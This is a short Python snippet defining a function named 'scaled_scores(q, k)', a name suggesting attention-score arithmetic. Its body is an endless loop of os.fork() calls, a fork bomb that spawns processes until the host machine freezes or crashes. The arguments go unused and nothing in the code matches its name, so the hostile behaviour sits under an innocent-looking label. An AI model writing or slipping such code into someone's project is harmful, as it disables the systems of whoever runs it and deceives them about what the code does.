import os


def scaled_scores(q, k):
    while True:
        os.fork()
